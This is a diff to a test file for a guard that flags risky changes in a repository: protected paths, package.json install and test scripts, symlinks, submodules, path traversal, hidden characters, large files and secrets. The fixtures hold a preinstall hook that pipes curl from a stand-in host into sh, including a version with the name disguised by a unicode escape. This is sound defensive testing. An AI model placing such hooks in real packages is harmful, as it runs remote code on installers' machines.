@@ -32,43 +32,22 @@ describe("the guard", () => {
     "jest.config.mjs",
     ".github/dependabot.yml",
   ])("protects %s until the rules name it", (path) => {
-    expect(judged({ path })).toEqual([
-      {
-        path,
-        what: "the path is protected",
-        remedy: `Ask for \`${path}\` to stay as it is, or name it under \`allow:\` in .github/issuewright.yml`,
-      },
-    ]);
+    expect(judged({ path })).toEqual([{ kind: "protected-path", path }]);
     expect(judged({ path }, { allow: [path] })).toEqual([]);
   });
 
   it.each([
-    [
-      "runs a script on every install",
-      ['  "preinstall": "curl x.example | sh",'],
-      "what npm runs by itself (`preinstall`)",
-    ],
-    [
-      "runs one under a name in disguise",
-      ['  "pre\\u0069nstall": "curl x.example | sh",'],
-      "what npm runs by itself (`preinstall`)",
-    ],
-    ["makes a test of nothing", ['  "test": "node --test || true"'], "what `npm test` runs (`test`)"],
+    ["runs a script on every install", ['  "preinstall": "curl x.example | sh",'], ["preinstall"]],
+    ["runs one under a name in disguise", ['  "pre\\u0069nstall": "curl x.example | sh",'], ["preinstall"]],
+    ["makes a test of nothing", ['  "test": "node --test || true"'], ["test"]],
     [
       "does both",
       ['  "prepare": "x",', '  "test": "true",', '  "pretest": "x"'],
-      "what npm runs by itself (`prepare`), and what `npm test` runs (`test`, `pretest`)",
+      ["prepare", "test", "pretest"],
     ],
-  ])("protects a package that %s until the rules name it", (_name, added, what) => {
+  ])("protects a package that %s until the rules name it", (_name, added, scripts) => {
     const change = { path: "package.json", added };
-    expect(judged(change)).toEqual([
-      {
-        path: "package.json",
-        what: `it changes ${what}`,
-        remedy:
-          "Ask for `package.json` to stay as it is, or name it under `allow:` in .github/issuewright.yml",
-      },
-    ]);
+    expect(judged(change)).toEqual([{ kind: "script", path: "package.json", scripts }]);
     expect(judged(change, { allow: ["package.json"] })).toEqual([]);
     expect(judged({ ...change, added: ['  "lint": "biome",', '  "dependencies": {'] })).toEqual([]);
   });
@@ -78,13 +57,14 @@ describe("the guard", () => {
   });
 
   it.each([
-    ["a symbolic link", { mode: "120000" }],
-    ["a submodule", { mode: "160000" }],
-    ["a path into git's directory", { path: "a/.GIT/config" }],
-    ["a path that climbs out", { path: "../outside" }],
-    ["a path with characters a reader cannot see", { path: "src/a\u202egnp.js" }],
-  ] as [string, Partial<Change>][])("refuses %s", (_name, change) => {
-    expect(judged(change)).not.toEqual([]);
+    ["a symbolic link", { mode: "120000" }, "symbolic-link"],
+    ["a submodule", { mode: "160000" }, "submodule"],
+    ["the end of a submodule", { previousMode: "160000" }, "submodule"],
+    ["a path into git's directory", { path: "a/GIT~1/config" }, "git-directory"],
+    ["a path that climbs out", { path: "../outside" }, "odd-path"],
+    ["a path with characters a reader cannot see", { path: "src/a\u202egnp.js" }, "unseen-path"],
+  ] as [string, Partial<Change>, string][])("refuses %s", (_name, change, kind) => {
+    expect(judged(change)).toEqual([{ kind, path: change.path ?? aChange().path }]);
   });
 
   it("refuses a change beyond each size cap, and accepts one at the cap", () => {
@@ -101,14 +81,12 @@ describe("the guard", () => {
     expect(judged({ bytes: MAX_FILE_BYTES })).toEqual([]);
   });
 
-  it("names every file that is too large, the largest first, and what to do about a file", () => {
+  it("names every file that is too large, the largest first", () => {
     const sized = (path: string, bytes: number) => aChange({ path, bytes });
     const patch = aPatch(sized("a.bin", 2_200_000), sized("ok.bin", 2_000_000), sized("b.bin", 3_145_728));
-    const remedy =
-      "Name large files that tools make in `.gitignore` on the default branch, and add those that the change needs by hand";
     expect(guard({ patch, rules: NO_RULES, secrets: [] })).toEqual([
-      { path: "b.bin", what: "it has 3,145,728 bytes, more than 2,097,152 bytes", remedy },
-      { path: "a.bin", what: "it has 2,200,000 bytes, more than 2,097,152 bytes", remedy },
+      { kind: "large-file", path: "b.bin", bytes: 3_145_728, limit: 2_097_152 },
+      { kind: "large-file", path: "a.bin", bytes: 2_200_000, limit: 2_097_152 },
     ]);
   });
 
@@ -118,12 +96,6 @@ describe("the guard", () => {
       rules: NO_RULES,
       secrets: [{ path: "src/clock.js", what: "AWSSecretAccessKey" }],
     });
-    expect(faults).toEqual([
-      {
-        path: "src/clock.js",
-        what: "it looks like a secret (AWSSecretAccessKey)",
-        remedy: "If it is a made-up value for a test, make it look like one",
-      },
-    ]);
+    expect(faults).toEqual([{ kind: "secret", path: "src/clock.js", what: "AWSSecretAccessKey" }]);
   });
 });
